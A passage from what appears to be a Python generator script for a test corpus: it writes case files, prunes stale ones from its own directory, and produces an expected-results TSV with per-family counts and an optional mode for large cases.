    family_sidecar()
    family_code()
    family_large()
    names = [c["name"] for c in CASES + LARGE]
    dup = {n for n in names if names.count(n) > 1}
    assert not dup, dup


def hand_rows():
    """Rows for hand-written cases: tests/corpus/hand/<case>.<ext>.expected holds the row's fields."""
    rows = []
    if not os.path.isdir(HAND_DIR):
        return rows
    for fn in sorted(os.listdir(HAND_DIR)):
        if fn.endswith(".expected"):
            with open(os.path.join(HAND_DIR, fn), encoding="utf-8") as f:
                line = f.read().strip("\n")
            rows.append(line)
    return rows


def tsv_row(c):
    return "\t".join([f"{c['name']}.{c['ext']}", c["mode"], "1" if c["valid"] else "0", c["reason"], c["format"], c["offset"], c["note"]])


def write_all():
    all_cases()
    os.makedirs(CASES_DIR, exist_ok=True)
    wanted = {f"{c['name']}.{c['ext']}" for c in CASES}
    for fn in os.listdir(CASES_DIR):
        if fn not in wanted:
            os.remove(os.path.join(CASES_DIR, fn))
    for c in CASES:
        with open(os.path.join(CASES_DIR, f"{c['name']}.{c['ext']}"), "wb") as f:
            f.write(c["data"])
    with open(EXPECTED, "w", encoding="utf-8") as f:
        f.write("# case\tmode\tvalid\treason\tformat\toffset\tnote   (generated by generate.py; hand/ rows come from hand/*.expected; large=1 rows are made by run.sh)\n")
        for c in CASES:
            f.write(tsv_row(c) + "\n")
        for c in LARGE:
            f.write(tsv_row(c) + " [large]\n")
        for line in hand_rows():
            f.write(line + "\n")
    total = sum(len(c["data"]) for c in CASES)
    fams = {}
    for c in CASES + LARGE:
        fam = c["name"].split("_")[0]
        fams[fam] = fams.get(fam, 0) + 1
    print(f"generate: {len(CASES)} committed cases ({total} bytes), {len(LARGE)} large cases, {len(hand_rows())} hand rows")
    print("generate: per family: " + ", ".join(f"{k} {v}" for k, v in sorted(fams.items())))


def write_large(outdir):
    family_large()
    os.makedirs(outdir, exist_ok=True)
    for c in LARGE:
        with open(os.path.join(outdir, f"{c['name']}.{c['ext']}"), "wb") as f:
            f.write(make_large(*c["data"]))


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--large":
        write_large(sys.argv[2])
    elif len(sys.argv) == 1:
        write_all()
    else:
        sys.exit("usage: generate.py [--large DIR]")
